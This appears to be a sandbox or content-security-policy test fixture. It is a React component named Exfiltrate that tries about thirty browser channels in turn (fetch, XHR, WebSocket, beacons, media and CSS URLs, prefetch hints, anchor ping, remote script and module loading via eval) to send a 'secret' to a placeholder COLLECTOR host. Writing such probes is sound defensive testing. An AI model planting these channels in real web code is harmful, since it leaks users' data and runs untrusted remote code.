import { useEffect } from "react";

const at = "http://COLLECTOR";

function attempts(): Array<() => unknown> {
  const element = (tag: string, attributes: Record<string, string>) => () => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
  };
  return [
    () => fetch(`${at}/fetch?d=secret`).catch(() => {}),
    () => fetch(`${at}/fetch`, { method: "POST", mode: "no-cors", keepalive: true, body: "secret" }).catch(() => {}),
    () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${at}/xhr`);
      request.send("secret");
    },
    () => new WebSocket("ws://COLLECTOR/ws"),
    () => navigator.sendBeacon(`${at}/beacon`, "secret"),
    () => new EventSource(`${at}/events`),
    () => new (window as any).WebTransport("https://COLLECTOR/transport"),
    () => (new Image().src = `${at}/image?d=secret`),
    () => new FontFace("Stolen", `url(${at}/font)`).load().catch(() => {}),
    () => import("http://COLLECTOR/module.js").catch(() => {}),
    () => (0, eval)(`import("${at}/eval-module.js").catch(() => {})`),
    () => new Audio(`${at}/audio`).play().catch(() => {}),
    element("script", { src: `${at}/script.js` }),
    element("script", { src: `${at}/module.js`, type: "module" }),
    element("link", { rel: "stylesheet", href: `${at}/sheet.css` }),
    element("link", { rel: "prefetch", href: `${at}/prefetch` }),
    element("link", { rel: "preload", as: "image", href: `${at}/preload` }),
    element("link", { rel: "modulepreload", href: `${at}/modulepreload.js` }),
    element("link", { rel: "prerender", href: `${at}/prerender` }),
    element("link", { rel: "icon", href: `${at}/icon.png` }),
    element("link", { rel: "manifest", href: `${at}/manifest.json` }),
    element("video", { src: `${at}/video`, poster: `${at}/poster`, autoplay: "" }),
    element("object", { data: `${at}/object` }),
    element("embed", { src: `${at}/embed` }),
    element("input", { type: "image", src: `${at}/input` }),
    () => {
      const style = document.createElement("style");
      style.textContent = `@import url(${at}/import.css); @font-face { font-family: F; src: url(${at}/face) }
        body { background: url(${at}/background); cursor: url(${at}/cursor), auto; font-family: F }`;
      document.head.append(style);
    },
    () => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({ prefetch: [{ urls: [`${at}/speculation`] }] });
      document.head.append(rules);
    },
    () => {
      const box = document.createElement("div");
      box.innerHTML = `<img src="${at}/inner" srcset="${at}/inner2 2x"><svg><image href="${at}/svg"/>
        <use href="${at}/use#a"/><filter><feImage href="${at}/filter"/></filter></svg>
        <table background="${at}/table"><tr><td>cell</td></tr></table>`;
      document.body.append(box);
    },
    () => {
      const link = document.createElement("a");
      link.href = "#x";
      link.ping = `${at}/ping`;
      document.body.append(link);
      link.click();
    },
    () => fetch("/_stcore/health").then(() => (document.title = "reached the dashboard")).catch(() => {}),
    () => navigator.serviceWorker.register("/worker.js").catch(() => {}),
  ];
}

export default function Exfiltrate() {
  useEffect(() => {
    for (const attempt of attempts()) {
      try {
        attempt();
      } catch {
        // Tried.
      }
    }
  }, []);
  return <p>Tried everything</p>;
}
